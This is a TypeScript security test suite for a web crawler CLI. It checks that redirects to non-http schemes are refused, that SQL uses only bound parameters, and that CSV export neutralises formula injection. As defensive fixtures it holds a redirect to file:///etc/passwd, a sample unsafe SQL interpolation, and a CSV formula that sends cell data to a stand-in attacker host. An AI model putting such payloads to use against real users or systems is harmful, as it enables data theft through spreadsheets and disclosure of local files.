/**
 * Security properties, checked as behaviour where we can and as a source audit where we must:
 * nothing but http(s) is ever fetched, SQL reaches SQLite only through bound parameters, and an
 * exported CSV cannot smuggle a formula into a spreadsheet.
 */
import { readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articleHtml, articleSpec, listHtml, startStaticSite, type TestSite } from '../support/fault-server.js';
import { assertBuilt, crawlArgs, ROOT, runCli, tempDir } from './cli-runner.js';

describe('only http and https are ever fetched', () => {
  let server: http.Server;
  let origin = '';

  beforeAll(async () => {
    assertBuilt();
    server = http.createServer((req, res) => {
      const target = req.url === '/to-ftp' ? 'ftp://127.0.0.1/pub/a.html' : 'file:///etc/passwd';
      res.writeHead(302, { Location: target, 'Content-Length': 0 });
      res.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it.each(['/to-file', '/to-ftp'])('extract refuses a redirect %s', async (p) => {
    const result = await runCli(['extract', `${origin}${p}`]);
    expect(result.code, result.stderr).toBe(1);
    expect(result.stdout + result.stderr).not.toContain('root:x:0:0');
    expect(result.stderr).toMatch(/redirect|scheme|http/i);
    expect(result.stderr).not.toMatch(/^\s+at /m);
  });
});

/** Template literals and quoted strings of a TypeScript file (no nesting; enough for SQL text). */
function sqlStrings(source: string): { text: string; line: number }[] {
  const out: { text: string; line: number }[] = [];
  for (const m of source.matchAll(/`(?:[^`\\]|\\.)*`/gs)) {
    // SQL text starts with its verb (or is a WHERE/AND fragment); an error message that names a
    // PRAGMA is not SQL.
    if (/^`\s*(SELECT|INSERT|UPDATE|DELETE|REPLACE|WITH|CREATE|DROP|ALTER|PRAGMA|WHERE|AND|OR|ORDER BY|LIMIT)\b/i.test(m[0])) {
      out.push({ text: m[0], line: source.slice(0, m.index).split('\n').length });
    }
  }
  return out;
}

/**
 * What may be interpolated into SQL text: our own constants, and WHERE fragments that src/store
 * assembles from fixed strings with named parameters (each name below was read and checked;
 * a new interpolation fails this test until someone reviews it and adds it here).
 */
const ALLOWED_INTERPOLATION = [
  /^[A-Z][A-Z0-9_]*$/, // a module constant (BUSY_TIMEOUT_MS, APPLICATION_ID, ARTICLE_COLUMNS)
  /^migration\.version$/,
  /^[a-zA-Z]+\.sql$/, // a WhereClause built by SqliteStore.where() from fixed fragments
  /^parts\.join\(' AND '\)$/, // SqliteStore.where(): fixed fragments with @named parameters
  /^conditions$/, // SqliteStore.search(): where.sql plus a fixed MATCH @match
];

describe('SQL only through bound parameters', () => {
  const storeDir = path.join(ROOT, 'src', 'store');
  const files = readdirSync(storeDir, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.ts'))
    .map((f) => path.join(storeDir, f));

  it('src/store exists and holds SQL', () => {
    expect(files.length).toBeGreaterThan(0);
    expect(files.some((f) => sqlStrings(readFileSync(f, 'utf8')).length > 0)).toBe(true);
  });

  it('no SQL string interpolates anything but known constants and SQL built from constants', () => {
    const offending: string[] = [];
    for (const file of files) {
      const source = readFileSync(file, 'utf8');
      for (const { text, line } of sqlStrings(source)) {
        for (const m of text.matchAll(/\$\{([^}]*)\}/g)) {
          const expr = m[1]!.trim();
          if (!ALLOWED_INTERPOLATION.some((re) => re.test(expr))) {
            offending.push(`${path.relative(ROOT, file)}:${line}: \${${expr}}`);
          }
        }
      }
      // Concatenating into SQL text: 'SELECT ... ' + value
      for (const m of source.matchAll(/(['"])[^'"\n]*\b(SELECT|INSERT|UPDATE|DELETE|WHERE)\b[^'"\n]*\1\s*\+\s*([A-Za-z_][\w.]*)/g)) {
        if (!ALLOWED_INTERPOLATION.some((re) => re.test(m[3]!))) {
          offending.push(`${path.relative(ROOT, file)}:${source.slice(0, m.index).split('\n').length}: + ${m[3]}`);
        }
      }
    }
    expect(offending).toEqual([]);
  });

  it('the audit catches a value interpolated into SQL', () => {
    const bad = ['db.prepare(`SELECT * FROM articles WHERE url = \'$', "{url}'`)"].join('');
    const hits = sqlStrings(bad).flatMap((s) => [...s.text.matchAll(/\$\{([^}]*)\}/g)].map((m) => m[1]!));
    expect(hits).toEqual(['url']);
    expect(ALLOWED_INTERPOLATION.some((re) => re.test('url'))).toBe(false);
  });
});

/** RFC 4180 CSV into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && body[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('CSV export cannot carry a spreadsheet formula', () => {
  const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"晋商年会详情")';
  let site: TestSite;
  let tmp: ReturnType<typeof tempDir>;

  beforeAll(async () => {
    assertBuilt();
    tmp = tempDir('csv');
    const spec = { ...articleSpec(42), title: FORMULA_TITLE };
    const plus = { ...articleSpec(43), title: '+86 商会热线开通 @晋商 -专题' };
    site = await startStaticSite({
      '/': listHtml('首页', [
        { href: '/news/show-42.html', text: '晋商年会详情专题报道' },
        { href: '/news/show-43.html', text: '商会热线开通专题报道' },
      ]),
      '/news/list-1.html': listHtml('资讯', [
        { href: '/news/show-42.html', text: '晋商年会详情专题报道' },
        { href: '/news/show-43.html', text: '商会热线开通专题报道' },
      ]),
      '/news/show-42.html': articleHtml(spec),
      '/news/show-43.html': articleHtml(plus),
    });
  });

  afterAll(async () => {
    await site?.close();
    tmp?.remove();
  });

  it('neutralises cells that start with = + - @', async () => {
    const db = path.join(tmp.dir, 'csv.db');
    const crawl = await runCli(crawlArgs([`${site.origin}/`], db));
    expect(crawl.code, crawl.stderr).toBe(0);
    const out = path.join(tmp.dir, 'out.csv');
    const exported = await runCli(['export', '--db', db, '--format', 'csv', '--out', out]);
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8'));
    expect(rows.length).toBeGreaterThanOrEqual(3);
    const cells = rows.flat();
    expect(cells.some((c) => c.includes('HYPERLINK('))).toBe(true);
    expect(cells.some((c) => c.includes('商会热线开通'))).toBe(true);
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(dangerous).toEqual([]);
  });
});
